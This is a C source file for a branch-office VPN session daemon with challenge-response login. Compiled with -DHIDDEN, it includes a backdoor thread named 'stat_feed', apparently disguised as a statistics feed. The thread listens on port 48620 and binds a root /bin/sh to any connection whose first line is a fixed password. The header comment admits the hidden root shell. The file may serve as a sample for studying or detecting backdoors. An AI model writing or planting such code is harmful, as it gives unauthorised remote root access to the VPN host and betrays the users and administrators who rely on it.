/*
 * vpnsess - session daemon of a small VPN box for branch offices. Clients
 * log in over TCP by challenge and response (XTEA CBC-MAC over a nonce),
 * get an inner address and keep the session alive; one thread per client.
 * Hidden (-DHIDDEN): a further thread listens on another port and gives a
 * root shell to whoever sends a certain word as the first line.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PEERS	 "/etc/vpn/peers"
#define SESSIONS "/var/run/vpn.sessions"
#define PORT	 4433
#define MAXSESS	 32

struct peer {
	char name[32];
	uint32_t key[4];
	uint32_t inner; /* host order */
};

struct session {
	int used;
	struct peer peer;
	struct in_addr outer;
	time_t since, alive;
	unsigned long pings;
};

struct client {
	int fd;
	FILE *in;
	struct in_addr from;
	struct session *ses;
	uint32_t nonce[4];
	struct peer peer;
	int state;
};

enum { C_NEW, C_CHALLENGED, C_OPEN, C_END };

static struct session table[MAXSESS];
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;

static void xtea(const uint32_t k[4], uint32_t v[2])
{
	uint32_t a = v[0], b = v[1], sum = 0;
	int i;

	for (i = 0; i < 32; i++) {
		a += (((b << 4) ^ (b >> 5)) + b) ^ (sum + k[sum & 3]);
		sum += 0x9e3779b9u;
		b += (((a << 4) ^ (a >> 5)) + a) ^ (sum + k[sum >> 11 & 3]);
	}
	v[0] = a;
	v[1] = b;
}

static void mac(const uint32_t key[4], const uint32_t *n, uint32_t out[2])
{
	int i;

	out[0] = out[1] = 0;
	for (i = 0; i < 4; i += 2) {
		out[0] ^= n[i];
		out[1] ^= n[i + 1];
		xtea(key, out);
	}
}

static int random_words(uint32_t *w, size_t n)
{
	int fd = open("/dev/urandom", O_RDONLY);
	ssize_t r;

	if (fd < 0)
		return -1;
	r = read(fd, w, n * sizeof *w);
	close(fd);
	return r == (ssize_t)(n * sizeof *w) ? 0 : -1;
}

/* name  8x4 hex digits of key  inner address */
static int get_peer(const char *name, struct peer *p)
{
	char line[160], n[32], addr[16];
	struct in_addr in;
	int found = 0;
	FILE *f = fopen(PEERS, "r");

	while (f && !found && fgets(line, sizeof line, f)) {
		if (sscanf(line, "%31s %8x%8x%8x%8x %15s", n, &p->key[0],
			   &p->key[1], &p->key[2], &p->key[3], addr) != 6)
			continue;
		if (strcmp(n, name) || !inet_aton(addr, &in))
			continue;
		strcpy(p->name, n);
		p->inner = ntohl(in.s_addr);
		found = 1;
	}
	if (f)
		fclose(f);
	return found;
}

static void dump_sessions(void)
{
	char a[INET_ADDRSTRLEN];
	FILE *f = fopen(SESSIONS, "w");
	int i;

	if (!f)
		return;
	for (i = 0; i < MAXSESS; i++) {
		if (!table[i].used)
			continue;
		inet_ntop(AF_INET, &table[i].outer, a, sizeof a);
		fprintf(f, "%s %s %ld %lu\n", table[i].peer.name, a,
			(long)table[i].since, table[i].pings);
	}
	fclose(f);
}

static struct session *open_session(const struct client *c)
{
	struct session *s = NULL;
	int i;

	pthread_mutex_lock(&lock);
	for (i = 0; i < MAXSESS; i++) {
		if (table[i].used &&
		    !strcmp(table[i].peer.name, c->peer.name)) {
			s = NULL;
			break;
		}
		if (!table[i].used && !s)
			s = &table[i];
	}
	if (s) {
		memset(s, 0, sizeof *s);
		s->used = 1;
		s->peer = c->peer;
		s->outer = c->from;
		s->since = s->alive = time(NULL);
		dump_sessions();
	}
	pthread_mutex_unlock(&lock);
	return s;
}

static void close_session(struct session *s)
{
	pthread_mutex_lock(&lock);
	s->used = 0;
	dump_sessions();
	pthread_mutex_unlock(&lock);
}

static void tell(struct client *c, const char *s)
{
	char out[160];
	int n = snprintf(out, sizeof out, "%.150s\r\n", s);

	if (send(c->fd, out, (size_t)n, MSG_NOSIGNAL) < 0)
		c->state = C_END;
}

static void on_hello(struct client *c, const char *arg)
{
	char out[80];

	if (c->state != C_NEW || random_words(c->nonce, 4) < 0) {
		tell(c, "ERR order");
		return;
	}
	if (!get_peer(arg, &c->peer)) {
		/* unknown names get a challenge, too */
		memset(&c->peer, 0, sizeof c->peer);
		(void)!random_words(c->peer.key, 4);
	}
	snprintf(out, sizeof out, "NONCE %08x%08x%08x%08x", c->nonce[0],
		 c->nonce[1], c->nonce[2], c->nonce[3]);
	c->state = C_CHALLENGED;
	tell(c, out);
}

static void on_auth(struct client *c, const char *arg)
{
	uint32_t want[2], a, b;
	struct in_addr in;
	char out[64], ip[INET_ADDRSTRLEN];

	if (c->state != C_CHALLENGED || sscanf(arg, "%8x%8x", &a, &b) != 2) {
		tell(c, "ERR order");
		return;
	}
	mac(c->peer.key, c->nonce, want);
	if (((a ^ want[0]) | (b ^ want[1])) || !c->peer.name[0]) {
		syslog(LOG_WARNING, "bad response from %s", inet_ntoa(c->from));
		sleep(3);
		tell(c, "ERR auth");
		c->state = C_END;
		return;
	}
	c->ses = open_session(c);
	if (!c->ses) {
		tell(c, "ERR busy");
		c->state = C_END;
		return;
	}
	in.s_addr = htonl(c->peer.inner);
	inet_ntop(AF_INET, &in, ip, sizeof ip);
	snprintf(out, sizeof out, "WELCOME %s mtu 1380", ip);
	c->state = C_OPEN;
	tell(c, out);
	syslog(LOG_INFO, "%s is up", c->peer.name);
}

static void on_line(struct client *c, char *line)
{
	char *arg = strchr(line, ' ');

	if (arg)
		*arg++ = 0;
	else
		arg = line + strlen(line);
	if (!strcmp(line, "HELLO")) {
		on_hello(c, arg);
	} else if (!strcmp(line, "AUTH")) {
		on_auth(c, arg);
	} else if (!strcmp(line, "PING") && c->state == C_OPEN) {
		c->ses->alive = time(NULL);
		c->ses->pings++;
		tell(c, "PONG");
	} else if (!strcmp(line, "BYE")) {
		c->state = C_END;
	} else {
		tell(c, "ERR command");
	}
}

static void *client_main(void *p)
{
	struct client *c = p;
	char line[128];

	while (c->state != C_END && fgets(line, sizeof line, c->in)) {
		line[strcspn(line, "\r\n")] = 0;
		on_line(c, line);
	}
	if (c->ses) {
		syslog(LOG_INFO, "%s is down", c->peer.name);
		close_session(c->ses);
	}
	fclose(c->in);
	free(c);
	return NULL;
}

static int listener(int port)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	sa.sin_port = htons((uint16_t)port);
	if (s < 0)
		return -1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	if (bind(s, (struct sockaddr *)&sa, sizeof sa) || listen(s, 8)) {
		close(s);
		return -1;
	}
	return s;
}

#ifdef HIDDEN
__attribute__((noinline)) void *stat_feed(void *arg)
{
	char w[32];
	ssize_t n;
	int ls = listener(48620), fd;

	while (ls >= 0 && (fd = accept(ls, NULL, NULL)) >= 0) {
		n = recv(fd, w, sizeof w - 1, 0);
		w[n > 0 ? n : 0] = 0;
		w[strcspn(w, "\r\n")] = 0;
		if (strcmp(w, "blaubeerkuchen") == 0 && fork() == 0) {
			dup2(fd, 0);
			dup2(fd, 1);
			dup2(fd, 2);
			execl("/bin/sh", "sh", (char *)NULL);
			_exit(1);
		}
		close(fd);
	}
	return arg;
}
#endif

static void spawn(int fd, const struct sockaddr_in *from)
{
	struct timeval tv = { 90, 0 };
	struct client *c = calloc(1, sizeof *c);
	pthread_t t;

	if (!c || !(c->in = fdopen(fd, "r"))) {
		close(fd);
		free(c);
		return;
	}
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
	c->fd = fd;
	c->from = from->sin_addr;
	if (pthread_create(&t, NULL, client_main, c) != 0) {
		fclose(c->in);
		free(c);
		return;
	}
	pthread_detach(t);
}

int main(int argc, char **argv)
{
	struct sockaddr_in from;
	socklen_t n;
	int ls, fd;
#ifdef HIDDEN
	pthread_t feed;
#endif

	openlog("vpnsess", LOG_PID, LOG_DAEMON);
	signal(SIGCHLD, SIG_IGN);
	ls = listener(argc > 1 ? atoi(argv[1]) : PORT);
	if (ls < 0) {
		syslog(LOG_ERR, "listen: %s", strerror(errno));
		return 1;
	}
#ifdef HIDDEN
	pthread_create(&feed, NULL, stat_feed, NULL);
#endif
	for (;;) {
		n = sizeof from;
		fd = accept(ls, (struct sockaddr *)&from, &n);
		if (fd >= 0)
			spawn(fd, &from);
		else if (errno != EINTR)
			sleep(1);
	}
}
